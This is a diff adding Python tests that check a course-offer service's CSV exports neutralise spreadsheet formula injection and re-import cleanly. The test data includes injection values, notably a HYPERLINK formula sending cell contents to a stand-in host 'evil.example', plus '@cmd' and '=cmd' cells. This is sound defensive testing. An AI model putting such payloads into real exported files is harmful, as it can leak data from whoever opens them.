@@ -302,3 +302,58 @@ async def test_offers_imported_before_the_suffix_index_are_found_after_it(
         assert [o.external_id for o in found.offers] == ["old"] and found.total == 1
     finally:
         await engine.dispose()
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Deutschkurs")',
+    "provider": "+SUM(1,2)",
+    "description": "-2+3 [Beispieldaten]",
+    "address": "@cmd",
+    "cost": "\r=1+1",
+}
+
+
+async def test_an_export_opens_safely_in_a_spreadsheet_and_imports_back_unchanged(
+    uow_factory: UnitOfWorkFactory, clock: FakeClock
+) -> None:
+    import csv
+    import io
+
+    values = {c: "" for c in COLUMNS} | {
+        "external_id": "x-1",
+        "life_areas": "language",
+        "municipality": "Essen",
+        "phone": "+49 201 123456",
+        **HOSTILE,
+    }
+    hostile = io.StringIO()
+    csv.writer(hostile).writerows([COLUMNS, [values[c] for c in COLUMNS]])
+    await offer_service.import_offers(
+        uow_factory, clock, name="hostile.csv", data=hostile.getvalue().encode()
+    )
+    exported = await offer_service.export_offers(uow_factory)
+    row = next(csv.DictReader(io.StringIO(exported, newline="")))
+    # Every text cell a spreadsheet would run as a formula starts with the apostrophe.
+    for column, value in {**HOSTILE, "phone": "+49 201 123456"}.items():
+        assert row[column] == "'" + value.strip(), column
+    assert row["municipality"] == "Essen"  # harmless cells are as they were
+    # Edited and imported again, the values are the stored ones, without the guard.
+    again = await offer_service.import_offers(
+        uow_factory, clock, name="again.csv", data=exported.encode()
+    )
+    assert again.updated == 1
+    async with uow_factory() as uow:
+        (offer,) = await uow.offers.all()
+    assert offer.title == HOSTILE["title"] and offer.phone == "+49 201 123456"
+    assert offer.cost == HOSTILE["cost"].strip()
+
+
+def test_the_statistics_csv_is_guarded_too() -> None:
+    from bot.stats_chart import to_csv
+
+    text = to_csv({"clients_by_language": {"=cmd": 5, "de": "<5"}})
+    assert text.splitlines() == [
+        "figure,category,count",
+        "clients_by_language,'=cmd,5",
+        "clients_by_language,de,<5",
+    ]
